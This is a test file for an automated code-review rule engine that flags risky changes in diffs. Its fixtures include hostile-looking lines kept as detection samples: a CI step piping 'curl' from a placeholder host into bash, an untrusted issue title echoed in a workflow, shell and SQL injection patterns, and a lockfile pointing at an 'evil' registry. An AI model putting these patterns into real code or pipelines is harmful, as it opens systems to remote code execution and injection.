import { describe, expect, it } from 'vitest';
import { runRules } from '../../../../src/engine/review/run-rules.ts';
import { reviewRules } from '../../../../src/engine/review/rules/index.ts';
import { fileDiff, findingsOf, madeChange, type Edit } from './made-change.ts';

/** Puts lines into a file, behind its first line. */
const put = (path: string, lines: string, around: [string, string] = ['first line', 'last line']): Edit => ({
  path,
  before: `${around[0]}\n${around[1]}\n`,
  after: `${around[0]}\n${lines}\n${around[1]}\n`,
});

const names = async (...given: Parameters<typeof findingsOf>): Promise<string[]> => [
  ...new Set((await findingsOf(...given)).map(({ rule }) => rule)),
];

const js: [string, string] = ['export const a = 1;', 'export const b = 2;'];
const py: [string, string] = ['a = 1', 'b = 2'];
const go: [string, string] = ['package lib', 'var b = 2'];
const rust: [string, string] = ['const A: u8 = 1;', 'const B: u8 = 2;'];
const php: [string, string] = ['<?php', '$b = 2;'];
const yaml: [string, string] = ['on: push', 'jobs:'];

const hits: [rule: string, edit: Edit][] = [
  ['conflict-marker', put('src/a.ts', '<<<<<<< HEAD\nx();\n=======\ny();\n>>>>>>> other', js)],
  ['conflict-marker', put('notes.md', '<<<<<<< HEAD\nx\n=======\ny\n>>>>>>> other')],
  ['conflict-marker', put('src/a.ts', '<<<<<<< HEAD\r\nx();\r\n=======\r\ny();\r\n>>>>>>> other\r', js)],
  ['debug-leftover', put('src/a.ts', '  console.log(a);', js)],
  ['debug-leftover', put('src/größe.ts', "  console.debug('größe 中文 😀', a);\r", js)],
  ['debug-leftover', put('src/a.tsx', 'debugger', js)],
  ['debug-leftover', put('lib/a.py', '    print(f"{a} here")', py)],
  ['debug-leftover', put('lib/a.py', 'import pdb; pdb.set_trace()', py)],
  ['debug-leftover', put('pkg/a.go', '\tfmt.Println("here")', go)],
  ['debug-leftover', put('src/a.rs', '    dbg!(&x);', rust)],
  ['debug-leftover', put('src/A.java', '    System.out.println(x);', ['class A {', '}'])],
  ['debug-leftover', put('lib/a.rb', '    binding.pry', ['class A', 'end'])],
  ['debug-leftover', put('src/a.php', '    var_dump($x);', php)],
  ['focused-test', put('test/a.test.ts', "  it.only('works', () => {});", js)],
  ['focused-test', put('test/a.test.js', "  fdescribe('works', () => {});", js)],
  ['focused-test', put('spec/a_spec.rb', "  it 'works', :focus do\n  end", ['describe A do', 'end'])],
  ['focused-test', put('pkg/a_test.go', '\tFIt("works", func() {})', go)],
  ['disabled-test', put('test/a.test.ts', "  it.skip('works', () => {});", js)],
  ['disabled-test', put('test/a.test.ts', "  xdescribe('works', () => {});", js)],
  ['disabled-test', put('tests/test_a.py', '@pytest.mark.skip(reason="flaky")', py)],
  ['disabled-test', put('pkg/a_test.go', '\tt.Skip("flaky")', go)],
  [
    'disabled-test',
    put('src/a.rs', '#[cfg(test)]\nmod tests {\n    #[test]\n    #[ignore]\n    fn works() {}\n}', rust),
  ],
  ['disabled-test', put('src/test/java/ATest.java', '  @Disabled\n  @Test', ['class ATest {', '}'])],
  ['disabled-test', put('spec/a_spec.rb', "  xit 'works' do\n  end", ['describe A do', 'end'])],
  ['swallowed-error', put('src/a.ts', 'try {\n  x();\n} catch (error) {\n}', js)],
  ['swallowed-error', put('src/a.ts', 'save().catch(() => {});', js)],
  ['swallowed-error', put('lib/a.py', 'try:\n    x()\nexcept Exception:\n    pass', py)],
  ['swallowed-error', put('pkg/a.go', '\tvalue, _ := strconv.Atoi(text)', go)],
  ['swallowed-error', put('src/a.rs', '    let _ = refresh(&mut state);', rust)],
  ['swallowed-error', put('lib/a.rb', '    begin\n      x\n    rescue\n    end', ['class A', 'end'])],
  ['dangerous-call', put('src/a.ts', 'eval(text);', js)],
  ['dangerous-call', put('src/a.ts', 'element.innerHTML = text;', js)],
  ['dangerous-call', put('src/a.ts', 'db.query(`SELECT * FROM users WHERE id = ${id}`);', js)],
  ['dangerous-call', put('src/a.ts', 'child_process.exec(`rm ${path}`);', js)],
  ['dangerous-call', put('lib/a.py', 'subprocess.run(command, shell=True)', py)],
  ['dangerous-call', put('lib/a.py', 'data = yaml.load(text)', py)],
  ['dangerous-call', put('lib/a.py', 'cursor.execute(f"DELETE FROM users WHERE id = {id}")', py)],
  ['dangerous-call', put('src/a.php', 'unserialize($text);', php)],
  ['permission-change', put('src/a.ts', 'const agent = new Agent({ rejectUnauthorized: false });', js)],
  ['permission-change', put('lib/a.py', 'requests.get(url, verify=False)', py)],
  ['permission-change', put('pkg/a.go', '\tx := tls.Config{InsecureSkipVerify: true}', go)],
  ['permission-change', put('Dockerfile', 'USER root', ['FROM scratch', 'CMD ["a"]'])],
  ['permission-change', put('deploy/app.yaml', '    privileged: true', yaml)],
  ['ci-change', put('.github/workflows/a.yml', 'permissions: write-all', yaml)],
  ['ci-change', put('.github/workflows/a.yml', '  pull_request_target:', yaml)],
  ['ci-change', put('.github/workflows/a.yml', '      - uses: someone/deploy@main', yaml)],
  ['ci-change', put('.github/workflows/a.yml', '      - run: curl -s https://x.example | bash', yaml)],
  ['ci-change', put('.github/workflows/a.yml', '      - run: echo "${{ github.event.issue.title }}"', yaml)],
  ['binary-file', { path: 'src/tool.exe', after: '', about: { content: 'binary' } }],
  ['large-file', { path: 'src/.DS_Store', after: '', about: { content: 'binary' } }],
  ['large-file', { path: 'src/words.ts', after: 'x\n', about: { added: 9000 } }],
];

const misses: [rule: string, why: string, edit: Edit][] = [
  ['conflict-marker', 'a heading is underlined', put('notes.md', 'Heading\n=======')],
  ['conflict-marker', 'a document shows one', put('notes.md', '```\n<<<<<<< HEAD\n>>>>>>> other\n```')],
  ['conflict-marker', 'it stands in a string', put('src/a.ts', 'const text = `\n<<<<<<< HEAD\n>>>>>>> other\n`;', js)],
  ['debug-leftover', 'it is a comment', put('src/a.ts', '  // console.log(a);', js)],
  ['debug-leftover', 'it is a string', put('src/a.ts', "  const text = 'console.log(a); debugger;';", js)],
  ['debug-leftover', 'the file printed before', put('src/a.ts', 'console.log(2);', ['console.log(1);', 'x();'])],
  ['debug-leftover', 'a command prints', put('src/cli/list.ts', 'console.log(2);', js)],
  ['debug-leftover', 'it is in a test', put('test/a.test.ts', 'console.log(2);', js)],
  ['debug-leftover', 'it goes to a file', put('lib/a.py', 'print(a, file=target)', py)],
  ['debug-leftover', 'a docstring shows it', put('lib/a.py', '"""\nbreakpoint()\nprint(1)\n"""', py)],
  ['focused-test', 'it is no test', put('src/a.ts', 'query.only(fields);', js)],
  ['focused-test', 'it is a string', put('test/a.test.ts', 'const text = "it.only(x)";', js)],
  ['disabled-test', 'it skips elements', put('test/a.test.ts', 'stream.skip(3);', js)],
  [
    'disabled-test',
    'it depends on the machine',
    put('pkg/a_test.go', '\tif runtime.GOOS == "windows" {\n\t\tt.Skip("no links")\n\t}', go),
  ],
  ['disabled-test', 'it depends on the version', put('tests/test_a.py', '@pytest.mark.skipif(old, reason="old")', py)],
  [
    'swallowed-error',
    'a remark says why',
    put('src/a.ts', 'try {\n  x();\n} catch {\n  // Not there: nothing to do.\n}', js),
  ],
  ['swallowed-error', 'it is a narrow one', put('lib/a.py', 'try:\n    x()\nexcept KeyError:\n    pass', py)],
  ['swallowed-error', 'it is handled', put('src/a.ts', 'save().catch(() => { report(); });', js)],
  ['dangerous-call', 'it is a method of that name', put('src/a.ts', 'const match = pattern.exec(text);', js)],
  ['dangerous-call', 'it is a constant', put('src/a.ts', "element.innerHTML = '';", js)],
  ['dangerous-call', 'values go beside it', put('src/a.ts', "db.query('SELECT * FROM users WHERE id = ?', [id]);", js)],
  ['dangerous-call', 'the loader is safe', put('lib/a.py', 'yaml.load(text, Loader=yaml.SafeLoader)', py)],
  ['permission-change', 'it is on', put('lib/a.py', 'requests.get(url, verify=True)', py)],
  [
    'permission-change',
    'another user follows',
    put('Dockerfile', 'USER root\nRUN x\nUSER app', ['FROM scratch', 'CMD ["a"]']),
  ],
  ['ci-change', 'it may only read', put('.github/workflows/a.yml', 'permissions:\n  contents: read', yaml)],
  [
    'ci-change',
    'it is pinned',
    put('.github/workflows/a.yml', `      - uses: someone/deploy@${'0a'.repeat(20)}`, yaml),
  ],
  [
    'ci-change',
    'it is handed over',
    put('.github/workflows/a.yml', '        env:\n          TITLE: ${{ github.event.issue.title }}', yaml),
  ],
  ['binary-file', 'it is a picture', { path: 'assets/logo.png', after: '', about: { content: 'binary' } }],
];

describe('a rule of the review', () => {
  it.each(hits)('%s finds it in $path', async (rule, edit) => {
    const found = (await findingsOf([edit])).filter((finding) => finding.rule === rule);
    expect(found).not.toEqual([]);
    for (const { path, message, evidence } of found) {
      expect(path).toBe(edit.path);
      expect(message.length).toBeGreaterThan(10);
      expect(evidence).not.toBe(undefined);
    }
  });

  it.each(misses)('%s says nothing where %s', async (rule, _why, edit) => {
    expect(await names([edit])).not.toContain(rule);
  });

  it('has a name of its own and says what it claims', () => {
    expect(new Set(reviewRules.map(({ name }) => name)).size).toBe(reviewRules.length);
    for (const { name, claim } of reviewRules) {
      expect(name).toMatch(/^[a-z]+(?:-[a-z]+)*$/);
      expect(claim).toMatch(/^[A-Z].*\.$/);
    }
  });
});

describe('lines of a change', () => {
  const moved = "  console.log('here');";

  it('are not new when they only moved from another file', async () => {
    const edits = [
      { path: 'src/a.ts', before: `${js[0]}\n${moved}\n`, after: `${js[0]}\n` },
      { path: 'src/b.ts', before: `${js[1]}\n`, after: `${js[1]}\n    ${moved.trim()}\n` },
    ];
    expect(await names(edits)).not.toContain('debug-leftover');
  });

  it('are not new where they stood before in another form', async () => {
    const edit = { path: 'src/a.ts', before: `${js[0]}\neval(first);\n`, after: `${js[0]}\neval(second);\n` };
    expect(await names([edit])).not.toContain('dangerous-call');
  });

  it('say nothing in files that programs made', async () => {
    const edit = { ...put('src/a.ts', 'eval(text);', js), about: { made: 'generated' as const } };
    expect(await names([edit])).toEqual([]);
  });

  it('are judged by hunks alone when no text is known', async () => {
    const { files } = await madeChange([put('src/a.ts', 'eval(text);', js)]);
    const { reviewInput } = await import('../../../../src/engine/review/review-input.ts');
    const input = await reviewInput(
      { title: '', files: files.map(({ diff }) => diff) },
      { before: new Map(), after: new Map() },
    );
    expect(runRules(input).map(({ rule }) => rule)).toEqual(['dangerous-call']);
  });
});

describe('a secret', () => {
  const value = `ghp_${'aB3dE6gH9k'.repeat(4).slice(0, 36)}`;

  it('is found and not shown', async () => {
    const found = await findingsOf([put('src/a.ts', `const token = '${value}';`, js)]);
    expect(found.map(({ rule, severity }) => [rule, severity])).toEqual([['secret', 'high']]);
    expect(JSON.stringify(found)).not.toContain(value);
  });

  it('is found by the name of its file', async () => {
    expect(await names([{ path: 'deploy/.env', after: 'A=1\n' }])).toEqual(['secret']);
    expect(await names([{ path: 'deploy/.env.example', after: 'A=1\n' }])).toEqual([]);
  });

  it('is found in a lockfile, too', async () => {
    const edit = put('package-lock.json', `  "resolved": "https://x:${value}@registry.npmjs.org/a",`, ['{', '}']);
    expect(await names([{ ...edit, about: { made: 'lockfile' } }])).toContain('secret');
  });
});

describe('manifests and lockfiles', () => {
  const manifest = (dependencies: Record<string, string>, more: object = {}): string =>
    `${JSON.stringify({ name: 'x', ...more, dependencies }, null, 2)}\n`;
  const change = (after: Record<string, string>, more: object = {}): Edit => ({
    path: 'package.json',
    before: manifest({ a: '^1.0.0' }, { license: 'MIT' }),
    after: manifest(after, { license: 'MIT', ...more }),
  });
  const lock = (lines: string, before: string): Edit => ({
    path: 'package-lock.json',
    before: `{\n${before}\n}\n`,
    after: `{\n${lines}\n}\n`,
    about: { made: 'lockfile' },
  });

  it.each([
    ['dependency-added', change({ a: '^1.0.0', b: '2.0.0' })],
    ['dependency-changed', change({ a: '^2.0.0' })],
    ['dependency-changed', change({ a: 'github:someone/a' })],
    ['dependency-changed', change({ a: '*' })],
    ['licence-change', change({ a: '^1.0.0' }, { license: 'GPL-3.0-only' })],
  ])('%s is told', async (rule, edit) => {
    expect(await names([edit])).toEqual([rule]);
  });

  it('say nothing of a smaller step', async () => {
    expect(await names([change({ a: '^1.2.0' })])).toEqual([]);
  });

  it('drift when only one of them changes', async () => {
    const edit = change({ a: '^1.2.0' });
    expect(await names([edit], { paths: ['package-lock.json'] })).toEqual(['lockfile-drift']);
    const both = [edit, lock('  "x": 1', '  "x": 2')];
    expect(await names(both, { paths: ['package-lock.json'] })).toEqual([]);
  });

  it.each([
    [
      'another host',
      '  "resolved": "https://npm.evil.example/a.tgz"',
      '  "resolved": "https://registry.npmjs.org/a.tgz"',
    ],
    ['no hash', '  "version": "1"', '  "version": "1",\n  "integrity": "sha512-abc"'],
  ])('are told of %s', async (_what, after, before) => {
    expect(await names([lock(after, before)])).toEqual(['lockfile-drift']);
  });

  it('are told of a package under a stricter licence', async () => {
    expect(await names([lock('      "license": "AGPL-3.0"', '      "license": "MIT"')])).toEqual(['licence-change']);
    expect(await names([lock('      "license": "(MIT OR GPL-3.0)"', '      "license": "MIT"')])).toEqual([]);
  });
});

describe('tests that check less', () => {
  const test = (body: string): string => `import { it } from 'vitest';\nit('adds', () => {\n${body}\n});\n`;
  const change = (before: string, after: string): Edit => ({
    path: 'test/a.test.ts',
    before: test(before),
    after: test(after),
  });

  it('are told when an assertion went', async () => {
    const edit = change('  expect(a).toBe(1);\n  expect(b).toBe(2);', '  expect(a).toBe(1);');
    const [found] = await findingsOf([edit]);
    expect(found).toMatchObject({ rule: 'removed-assertion', side: 'old', line: 4, evidence: 'expect(b).toBe(2);' });
  });

  it('are told when an assertion says less', async () => {
    expect(await names([change('  expect(a).toBe(1);', '  expect(a).toBeDefined();')])).toEqual(['removed-assertion']);
  });

  it('are not told when the assertion is written in another way', async () => {
    const edit = change('  expect(a).toBe(1);\n  expect(b).toBe(2);', '  expect([a, b]).toEqual([1, 2]);');
    expect(await names([edit])).toEqual([]);
  });

  it('are told when a test went, but not when what it tests went with it', async () => {
    const two = `it('adds', () => {\n  expect(addAll(1)).toBe(1);\n});\nit('takes', () => {\n  expect(takeAll(1)).toBe(0);\n});\n`;
    const one = two.slice(0, two.indexOf("it('takes'"));
    const edit = { path: 'test/a.test.ts', before: two, after: one };
    expect(await names([edit])).toEqual(['removed-test']);
    const source = { path: 'src/internal/a.ts', before: 'function takeAll() {}\nlet a;\n', after: 'let a;\n' };
    expect(await names([edit, source])).toEqual([]);
  });
});

describe('what needs the whole file', () => {
  it('is left out where the review must be quick', async () => {
    const edit = { path: 'src/a.ts', before: 'export function a() {}\nlet x;\n', after: 'let x;\n' };
    expect(await names([edit])).toEqual(['api-break']);
    expect(runRules(await madeChange([edit], { quick: true }), { quick: true })).toEqual([]);
  });

  it.each([
    ['a.ts', 'export function a(x: number) {}', 'export function a(x: number, y: number) {}'],
    ['a.py', 'def a(x):\n    return x', 'def a(x, y):\n    return x'],
    ['a.go', 'func A(x int) {\n}', 'func A(x int, y int) {\n}'],
    ['a.rs', 'pub fn a(x: u8) {\n}', 'pub fn a(x: u8, y: u8) {\n}'],
  ])('tells a new parameter that is needed in %s', async (name, before, after) => {
    expect(await names([{ path: `src/${name}`, before: `${before}\n`, after: `${after}\n` }])).toEqual(['api-break']);
  });

  it.each([
    ['a.ts', 'export function a(x: number) {}', 'export function a(x: number, y = 1, z?: string) {}'],
    ['a.py', 'def a(x):\n    return x', 'def a(x, y=1, *, z=2):\n    return x'],
    ['a.go', 'func A(x int) {\n}', 'func A(x int, more ...int) {\n}'],
  ])('says nothing of a parameter that may be left out in %s', async (name, before, after) => {
    expect(await names([{ path: `src/${name}`, before: `${before}\n`, after: `${after}\n` }])).toEqual([]);
  });

  it('says nothing of an export that moved to another file', async () => {
    const edits = [
      { path: 'src/a.ts', before: 'export function a() {}\nlet x;\n', after: 'let x;\n' },
      { path: 'src/b.ts', before: 'let y;\n', after: 'let y;\nexport function a() {}\n' },
    ];
    expect(await names(edits)).toEqual([]);
  });

  it('tells a function that got many branches', async () => {
    const branches = Array.from({ length: 16 }, (_, index) => `  if (x === ${index}) y += ${index};`).join('\n');
    const text = (body: string): string => `export function a(x: number) {\n  let y = 0;\n${body}  return y;\n}\n`;
    const edit = { path: 'src/a.ts', before: text(''), after: text(`${branches}\n`) };
    expect(await names([edit])).toEqual(['complexity-jump']);
  });

  it('tells a promise nobody waits for', async () => {
    const text = (call: string): string => `async function save() {}\nexport async function run() {\n  ${call}\n}\n`;
    const change = (call: string): Edit => ({ path: 'src/a.ts', before: text('// nothing'), after: text(call) });
    const [found] = await findingsOf([change('save();')]);
    expect(found).toMatchObject({ rule: 'unawaited-promise', line: 3 });
    expect(found?.suggestion?.patch).toContain('+  await save();');
    for (const call of [
      'await save();',
      'void save();',
      'save().catch(report);',
      'return save();',
      'const done = save();',
    ])
      expect(await names([change(call)])).toEqual([]);
  });

  it('tells a new export that no test names', async () => {
    const edit = put('src/a.ts', 'export function added() {}', js);
    expect(await names([edit], { others: { 'test/a.test.ts': 'nothing' } })).toEqual(['untested-export']);
    expect(await names([edit], { others: { 'test/a.test.ts': 'added()' } })).toEqual([]);
    expect(await names([edit])).toEqual([]);
  });
});

describe('running the rules', () => {
  it('takes other severities, leaves out what is off, and runs what is named', async () => {
    const input = await madeChange([put('src/a.ts', 'eval(text); // TODO', js)]);
    expect(runRules(input).map(({ rule, severity }) => [rule, severity])).toEqual([['dangerous-call', 'high']]);
    expect(runRules(input, { rules: { 'dangerous-call': 'low' } })[0]?.severity).toBe('low');
    expect(
      runRules(input, { rules: { 'dangerous-call': 'off', 'todo-added': 'low' } }).map(({ rule }) => rule),
    ).toEqual(['todo-added']);
  });

  it('goes on when a rule fails, and says so', async () => {
    const input = await madeChange([put('src/a.ts', 'eval(text);', js)]);
    const notices: string[] = [];
    const failing = {
      ...reviewRules[0]!,
      name: 'failing',
      look: () => {
        throw new Error('no luck');
      },
    };
    const found = runRules(input, { notice: (message) => notices.push(message) }, [failing, ...reviewRules]);
    expect(found.map(({ rule }) => rule)).toEqual(['dangerous-call']);
    expect(notices).toEqual(['the rule failing failed: no luck']);
  });

  it('lists the same problem of one file twenty times at most', async () => {
    const edit = put('src/a.ts', Array.from({ length: 50 }, (_, index) => `eval(text${index});`).join('\n'), js);
    expect(await findingsOf([edit])).toHaveLength(20);
    expect(fileDiff(edit).added).toBe(50);
  });

  it('is done with lines made to hold it up', async () => {
    const long = (part: string): string => part.repeat(Math.ceil(150_000 / part.length));
    const hostile = ['= /[', '"', '1', ' ', 'a/b ', 'spawn(', '/'].map(long);
    const edits = ['src/a.ts', 'src/a.py', 'src/a.vue'].map((path) => put(path, hostile.join('\n'), js));
    edits.push(put('src/b.vue', long('<script '), js), put('src/c.ts', long('try {} catch {}\n'), js));
    edits.push({ path: 'requirements.txt', before: 'a\n', after: `a\nx${long(' ')}!\n` });
    edits.push({ path: 'pyproject.toml', before: '[project]\n', after: `[project]\n${long('[')}!\n` });
    const found = await findingsOf([...edits, put('src/z.ts', 'eval(text);', js)]);
    expect(found).toContainEqual(expect.objectContaining({ path: 'src/z.ts', rule: 'dangerous-call' }));
  }, 60_000);

  it('judges files whose names are no patterns', async () => {
    const notices: string[] = [];
    const input = await madeChange([
      {
        path: 'src/(a.ts',
        before: 'export const gone = () => 1;\nexport const b = 2;\n',
        after: 'export const b = 2;\n',
      },
      { path: 'package.json', before: '{"main":"x.js"}\n', after: '{"main":"y.js"}\n' },
      { path: 'src/index.ts', before: 'export * from "./(a";\n', after: 'export * from "./(a";\n// x\n' },
    ]);
    const found = runRules(input, { notice: (message) => notices.push(message) });
    expect(notices).toEqual([]);
    expect(found.map(({ rule }) => rule)).toContain('api-break');
  });

  it('does not blame a change for catching less than before', async () => {
    const handler = (caught: string): string => `def f():\n    try:\n        g()\n    except${caught}:\n        pass\n`;
    const edit = (before: string, after: string): Edit[] => [
      { path: 'src/a.py', before: handler(before), after: handler(after) },
    ];
    expect(await findingsOf(edit(' (OSError, ImportError)', ' OSError'))).toEqual([]);
    expect(await findingsOf(edit(' (OSError, ValueError)', ' OSError'))).toEqual([]);
    expect(await findingsOf(edit(' OSError', ''))).toMatchObject([{ rule: 'swallowed-error' }]);
    expect(await findingsOf(edit(' OSError', ' (OSError, ValueError)'))).toMatchObject([{ rule: 'swallowed-error' }]);
  });
});
